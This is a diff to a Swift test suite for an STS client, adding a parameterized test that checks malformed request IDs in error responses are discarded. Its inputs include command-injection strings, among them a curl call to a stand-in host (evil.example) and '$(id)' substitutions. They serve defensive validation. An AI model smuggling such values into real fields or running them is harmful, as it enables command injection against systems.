@@ -96,6 +96,19 @@ struct STSClientTests {
     }
   }
 
+  @Test(arguments: [
+    "x; curl https://evil.example/ #", "$(id)", "`id`", "a b", "a\u{E4}", String(repeating: "a", count: 65),
+  ])
+  func `what is no request id is not taken for one`(text: String) async throws {
+    try await withSTS(answer: { _ in
+      LoopbackSTS.error(400, "AccessDenied", "no", requestID: text)
+    }) { client, _ in
+      await #expect(
+        throws: STSClientError.refused(code: "AccessDenied", message: "no", httpStatus: 400, requestID: nil)
+      ) { try await ask(client) }
+    }
+  }
+
   @Test(arguments: [(503, "ServiceUnavailable"), (500, "InternalFailure"), (400, "Throttling")])
   func `a service that fails or throttles is asked three times, each time signed`(
     status: Int,
